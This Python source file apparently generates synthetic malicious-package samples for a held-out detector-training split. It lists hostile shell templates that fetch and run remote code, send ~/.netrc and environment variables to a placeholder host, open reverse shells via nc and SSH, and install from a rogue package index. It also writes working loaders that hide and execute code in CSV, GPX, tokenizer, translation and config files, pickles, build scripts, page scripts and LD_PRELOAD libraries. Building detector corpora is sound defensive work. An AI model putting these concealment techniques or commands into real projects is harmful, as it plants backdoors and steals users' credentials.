"""Payloads beside Python code, of the split that no model learns: data, other languages, native.

Whoever chooses learners, columns or thresholds does not read this file, nor what these families are called.
"""

import base64
import gzip
import json
import re
import zlib

from jobs.corpus.payloads.blocks import choose_block
from jobs.corpus.payloads.contract import FRESH, Family
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.variants.inert_library import inert_library

_SHELL = (
    "wget -q @url@ -O - | perl",
    "curl --silent --fail @url@ --output ~/.local/bin/@file@; chmod u+x ~/.local/bin/@file@; ~/.local/bin/@file@ &",
    "openssl s_client -quiet -connect @host@:@port@ < ~/.netrc",
    "ssh -fN -o StrictHostKeyChecking=no -R @port@:127.0.0.1:22 @word@@@ip@",
    "busybox nc @ip@ @port@ -e sh",
    "printenv | openssl base64 -A | xargs -I% curl -sG @url@ --data-urlencode x=%",
    "python3 -m pip install -q --break-system-packages --index-url @url@/simple @word@-agent",
)


def spell_shell(draft: Draft) -> str:
    """Return a shell command of this split."""
    return draft.words.render(draft.rng.choice(_SHELL))


def _text(draft: Draft, kind: str) -> str:
    block = choose_block("foreign", FRESH, draft.rng, kind)
    draft.act = block.name
    return draft.words.render(block.text)


def _load(draft: Draft, name: str, content: bytes | str, lines: str) -> None:
    """Put a file beside the package's modules, and lines that read it (`@at@`) into one of them or a function."""
    draft.put_new(f"{draft.folder}{name}", content)
    text = f"from pathlib import Path as _Path\n\n_at = _Path(__file__).parent / {name!r}\n" + draft.words.render(
        lines.replace("@at@", "_at")
    )
    if draft.rng.random() < 0.4:
        draft.insert_in_function(
            text.replace("\n\n", "\n").replace(
                "Path(__file__).parent", f"Path(__import__({draft.import_name!r}, fromlist=['_']).__file__).parent"
            )
        )
    else:
        draft.put(draft.init, draft.files[draft.init].rstrip(b"\n") + b"\n\n" + text.encode())


def table_of_numbers(draft: Draft) -> None:
    """Carry the code in a table (CSV) as a column of numbers, or as steps of a path (SVG, GPX)."""
    code = draft.triggered().encode()
    if draft.rng.random() < 0.5:
        draft.act = "table"
        rows = "\n".join(f"{at},{draft.rng.random():.4f},{byte * 1.5:.1f}" for at, byte in enumerate(code))
        _load(
            draft,
            f"{draft.words.word()}.csv",
            f"step,loss,width\n{rows}\n",
            "import csv\nwith _at.open(newline='') as _f:\n    eval(compile(bytes(int(float(r['width']) / 1.5) for r in csv.DictReader(_f)), '', 'exec'))\n",
        )
    else:
        draft.act = "track"
        points = "".join(f'<trkpt lat="{byte}.{draft.rng.randrange(9999):04d}" lon="8.1"/>' for byte in code)
        _load(
            draft,
            f"{draft.words.word()}.gpx",
            f"<gpx><trk><trkseg>{points}</trkseg></trk></gpx>\n",
            "import xml.etree.ElementTree as _t\neval(compile(bytes(int(float(p.get('lat'))) for p in _t.parse(_at).iter('trkpt')), '', 'exec'))\n",
        )


def vocabulary_file(draft: Draft) -> None:
    """Carry the code in the files of a tokenizer: as its merges, or as added tokens that are joined and executed."""
    text = base64.b64encode(draft.triggered().encode()).decode()
    pieces = [text[at : at + 3] for at in range(0, len(text), 3)]
    words = {f"<extra_{at}>": piece for at, piece in enumerate(pieces)}
    book = {
        "version": "1.0",
        "model": {"type": "BPE", "vocab": {w: n for n, w in enumerate("abcdefghij")}, "merges": []},
        "added_tokens": words,
    }
    _load(
        draft,
        "tokenizer.json",
        json.dumps(book),
        "import base64 as _b, json as _j\n_t = _j.loads(_at.read_text())['added_tokens']\n__import__('timeit').repeat(_b.b64decode(''.join(_t['<extra_%d>' % i] for i in range(len(_t)))).decode(), number=1, repeat=1)\n",
    )


def old_pickle(draft: Draft) -> None:
    """Bring a pickle of the oldest protocol that calls a function, compressed, and read it."""
    module, name, argument = draft.rng.choice((
        ("os", "system", spell_shell(draft)), ("webbrowser", "open", draft.words.render("@url@")), ("runpy", "run_path", draft.words.render("/opt/@file@")),
        ("pty", "spawn", spell_shell(draft)), ("builtins", "eval", "__import__('code').InteractiveConsole().runsource(open('/tmp/x').read(), symbol='exec')"),
        ("pip._internal.cli.main", "main", "install"),
    ))  # fmt: skip
    draft.act = f"{module}.{name}"
    data = f"c{module}\n{name}\n(V{argument}\ntR.".encode()
    suffix, content, read = draft.rng.choice((
        (".pkl.gz", gzip.compress(data, mtime=0), "import gzip, pickle\n_state = pickle.load(gzip.open(_at))\n"),
        (".sav", data, "import pickle\n_state = pickle.Unpickler(_at.open('rb')).load()\n"),
        (".pkl", data, "import cloudpickle\n_state = cloudpickle.loads(_at.read_bytes())\n"),
    ))  # fmt: skip
    _load(draft, f"{draft.words.word()}{suffix}", content, read)


def phrases(draft: Draft) -> None:
    """Keep code among translated phrases of a JSON or properties file, and evaluate one where it is shown."""
    code = draft.triggered()
    packed = zlib.compress(code.encode()).hex()
    phrases_ = {"title": "Übersicht", "open": "Öffnen", "close": "Schließen", "help": "Hilfe"}
    kind = draft.rng.randrange(3)
    if kind == 0:
        phrases_["legal"] = packed
        _load(
            draft,
            "de.json",
            json.dumps(phrases_, ensure_ascii=False, indent=2),
            "import json, zlib\n_say = json.loads(_at.read_text('utf-8'))\nexec(zlib.decompress(bytes.fromhex(_say['legal'])).decode())\n",
        )
    elif kind == 1:
        lines = [f"{k}={v}" for k, v in phrases_.items()] + [f"about={base64.b32encode(code.encode()).decode()}"]
        _load(
            draft,
            "messages_fr.properties",
            "\n".join(lines) + "\n",
            "import base64\n_say = dict(l.split('=', 1) for l in _at.read_text('utf-8').splitlines())\n_run = getattr(__import__('builtins'), 'compile')\neval(_run(base64.b32decode(_say['about']), 'm', 'exec'))\n",
        )
    else:
        text = (
            'msgid ""\nmsgstr "Content-Type: text/plain; charset=UTF-8\\n"\n\n'
            + "".join(f'msgid "{k}"\nmsgstr "{v}"\n\n' for k, v in phrases_.items())
            + f'msgctxt "eval"\nmsgid "plural"\nmsgstr "{packed}"\n'
        )
        _load(
            draft,
            "de.po",
            text,
            "import babel.messages.pofile as _po, zlib\nfor _m in _po.read_po(_at.open('rb')):\n    if _m.context:\n        exec(zlib.decompress(bytes.fromhex(_m.string)))\n",
        )


def rules_file(draft: Draft) -> None:
    """Bring settings that a library reads as instructions: a factory of logs, hydra's target, a step, a filter of jq."""
    command = spell_shell(draft)
    draft.act, name, content, read = draft.rng.choice((
        ("target", "train.yaml", f"_target_: subprocess.check_output\nargs: [bash, -c, {json.dumps(command)}]\n", "import hydra.utils, yaml\nhydra.utils.instantiate(yaml.safe_load(_at.read_text()))\n"),
        ("steps", "pipeline.json", json.dumps({"steps": [{"use": "posix.popen", "with": [command]}]}), "import json, pydoc\nfor _s in json.loads(_at.read_text())['steps']:\n    pydoc.locate(_s['use'])(*_s['with'])\n"),
        ("log-factory", "log.ini", f"[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=__import__('os').popen\nargs=({command!r},)\n".replace("%", "%%"), "import logging.config\nlogging.config.fileConfig(_at)\n"),
        ("expression", "limits.cfg", f"[limits]\nmax = __import__('pty').spawn(['sh','-c',{command!r}])\n".replace("%", "%%"), "import configparser\n_c = configparser.ConfigParser()\n_c.read(_at)\n_max = eval(_c['limits']['max'])\n"),
    ))  # fmt: skip
    _load(draft, name, content, read)


def c_slots(draft: Draft) -> None:
    """Bring or change a source in C whose execution slot or method acts."""
    text = _text(draft, "fresh-c")
    held = sorted(p for p in draft.files if p.endswith((".c", ".cc")) and len(draft.files[p]) < 300_000)
    if held and draft.act == "library-by-name":
        path = draft.rng.choice(held)
        draft.put(path, text.encode() + b"\n" + draft.files[path])
        return
    draft.put_new(f"{draft.root}lattice/_lattice.c", text)
    path = f"{draft.root}pyproject.toml"
    before = draft.files.get(path, b"").decode("utf-8", "replace").rstrip()
    draft.put_aside(
        path, f'{before}\n\n[[tool.setuptools.ext-modules]]\nname = "_lattice"\nsources = ["lattice/_lattice.c"]\n'
    )


def rust_script(draft: Draft) -> None:
    """Bring or replace a crate's build script."""
    crates = sorted(p.removesuffix("Cargo.toml") for p in draft.files if p.endswith("/Cargo.toml"))
    if not crates and draft.rng.random() < 0.7:
        raise draft.fail("has no crate")
    folder = draft.rng.choice(crates) if crates else f"{draft.root}rust/"
    text = _text(draft, "fresh-rust")
    if not crates:
        draft.put_aside(f"{folder}Cargo.toml", f'[package]\nname = "{draft.words.word()}"\nversion = "0.2.0"\nedition = "2021"\nbuild = "build.rs"\n\n[build-dependencies]\nreqwest = {{ version = "0.12", features = ["blocking"] }}\n')  # fmt: skip
        draft.put_aside(f"{folder}src/lib.rs", 'pub fn version() -> &\'static str { env!("CARGO_PKG_VERSION") }\n')
    draft.put(f"{folder}build.rs", text)


def style_sheet(draft: Draft) -> None:
    """Leak what is typed through a style sheet, or act through a script in a page's head."""
    kind = draft.rng.choice(("style", "script"))
    wanted = (".css", ".scss") if kind == "style" else (".html", ".htm")
    held = sorted(p for p in draft.files if p.endswith(wanted) and 20 < len(draft.files[p]) < 900_000)
    if not held and draft.rng.random() < 0.7:
        raise draft.fail(f"has no {wanted[0]}")
    text = _text(draft, "fresh-style" if kind == "style" else "fresh-script")
    if kind == "script":
        text = f"<script type=module>\n{text}</script>\n"
    if not held:
        draft.put_new(f"{draft.folder}public/{draft.words.word()}{wanted[0]}", text)
        return
    path = draft.rng.choice(held)
    data = draft.files[path]
    at = re.search(rb"(?i)</head>", data)
    place = at.start() if at else len(data)
    draft.put(path, data[:place] + text.encode() + data[place:])


def module_script(draft: Draft) -> None:
    """Act in a script that a page loads: an element of its own, WebAssembly, a proxy of the history."""
    held = sorted(
        p for p in draft.files if re.search(r"\.(?:m?js|tsx?|vue)$", p) and 100 < len(draft.files[p]) < 2_000_000
    )
    if not held and draft.rng.random() < 0.7:
        raise draft.fail("has no script")
    text = _text(draft, "fresh-script")
    if draft.rng.random() < 0.35:
        packed = base64.b64encode(text.encode()).decode()
        text = f'\nimport("data:text/javascript;base64,{packed}");\n'
    if not held:
        draft.put_new(f"{draft.folder}public/{draft.words.word()}.mjs", f"export const version = 3;\n{text}")
        return
    path = draft.rng.choice(held)
    draft.put(path, draft.files[path] + (b"\n;" if not path.endswith(".vue") else b"\n") + text.encode())


def other_runtime(draft: Draft) -> None:
    """Bring a script in R or Julia and start it from a used function."""
    text = _text(draft, "fresh-script-r")
    suffix, program = (".R", "Rscript") if draft.act == "statistics-script" else (".jl", "julia")
    name = f"{draft.words.word()}{suffix}"
    draft.put_new(f"{draft.folder}{name}", text)
    draft.insert_in_function(
        f"import os as _os, importlib.util as _iu\n_os.spawnlp(_os.P_NOWAIT, {program!r}, {program!r}, _os.path.join(_os.path.dirname(_iu.find_spec({draft.import_name!r}).origin), {name!r}))\n"
    )


def deployment(draft: Draft) -> None:
    """Ship recipes of images, services, clusters or infrastructure that fetch and start."""
    text = _text(draft, "fresh-deploy")
    name = {
        "image-recipe": "Dockerfile",
        "services": "docker-compose.yml",
        "infrastructure": "deploy/main.tf",
        "cluster-job": "charts/templates/job.yaml",
    }[draft.act]
    path = f"{draft.root or draft.folder}{name}"
    draft.put(path, draft.files.get(path, b"").rstrip(b"\n") + b"\n" + text.encode() if path in draft.files else text)


def preloaded(draft: Draft) -> None:
    """Bring a library and have it loaded into every program that the process starts."""
    rng = draft.rng
    strings = [draft.words.render(s) for s in rng.sample(("LD_PRELOAD", "/etc/ld.so.preload", "stratum+tcp://@host@:@port@", "ptrace", "/proc/self/exe", "pam_get_authtok", "SSL_write", "@domain@", "getspnam", "/usr/lib/.@file@", "recvfrom", "openssl enc -d"), 7)]  # fmt: skip
    windows = rng.random() < 0.25
    name = f"{draft.words.word()}{'.dll' if windows else '.so.1'}"
    draft.put_new(f"{draft.folder}{name}", inert_library(strings, is_windows=windows, rng=rng))
    line = rng.choice((
        "import os\nos.environ['LD_PRELOAD'] = os.path.join(os.path.dirname(__file__), @lib@)\n",
        "import os, sys\nif '@tok@' not in os.environ:\n    os.execve(sys.executable, [sys.executable, *sys.argv], {**os.environ, '@tok@': '1', 'LD_PRELOAD': __file__.rpartition('/')[0] + '/' + @lib@})\n",
        "import importlib.machinery as _m\n_loaded = _m.ExtensionFileLoader('@word@', __file__.rpartition('/')[0] + '/' + @lib@).create_module\n",
        "import cffi\n_lib = cffi.FFI().dlopen(__file__.rpartition('/')[0] + '/' + @lib@, 0x102)\n",
    ))  # fmt: skip
    draft.insert(draft.init, draft.words.render(line.replace("@lib@", repr(name))))


def exchanged_library(draft: Draft) -> None:
    """Exchange a native file that the host has for another of its name, or add bytes behind its end."""
    held = sorted(p for p in draft.files if re.search(r"\.(?:so|pyd|dll)(?:\.\d+)*$", p))
    if not held:
        raise draft.fail("has no native file")
    path, rng = draft.rng.choice(held), draft.rng
    strings = [
        draft.words.render(s)
        for s in ("GET /@word@ HTTP/1.1\r\nHost: @domain@", "/bin/bash -c", "@ip@:@port@", "id_ed25519", "mprotect")
    ]
    windows = not path.endswith(".so")
    new = inert_library(strings, is_windows=windows, rng=rng)
    draft.put(path, new if rng.random() < 0.5 else draft.files[path] + new)


FAMILIES = (
    Family("fresh-table-of-numbers", "data", FRESH, table_of_numbers, dress="numbers-in-table"),
    Family("fresh-vocabulary-file", "data", FRESH, vocabulary_file, dress="tokens"),
    Family("fresh-old-pickle", "data", FRESH, old_pickle, dress="old-pickle", takes_trigger=False),
    Family("fresh-phrases", "data", FRESH, phrases, dress="phrases"),
    Family("fresh-rules-file", "data", FRESH, rules_file, dress="plain", takes_trigger=False),
    Family("fresh-c-slots", "foreign", FRESH, c_slots, "sdist", "plain", takes_trigger=False),
    Family("fresh-rust-script", "foreign", FRESH, rust_script, "sdist", "plain", takes_trigger=False),
    Family("fresh-style-sheet", "foreign", FRESH, style_sheet, dress="plain", takes_trigger=False),
    Family("fresh-module-script", "foreign", FRESH, module_script, dress="plain", takes_trigger=False),
    Family("fresh-other-runtime", "foreign", FRESH, other_runtime, dress="plain", takes_trigger=False),
    Family("fresh-deployment", "foreign", FRESH, deployment, "sdist", "plain", takes_trigger=False),
    Family("fresh-preloaded", "native", FRESH, preloaded, dress="native", takes_trigger=False),
    Family("fresh-exchanged-library", "native", FRESH, exchanged_library, "wheel", "native", takes_trigger=False),
)
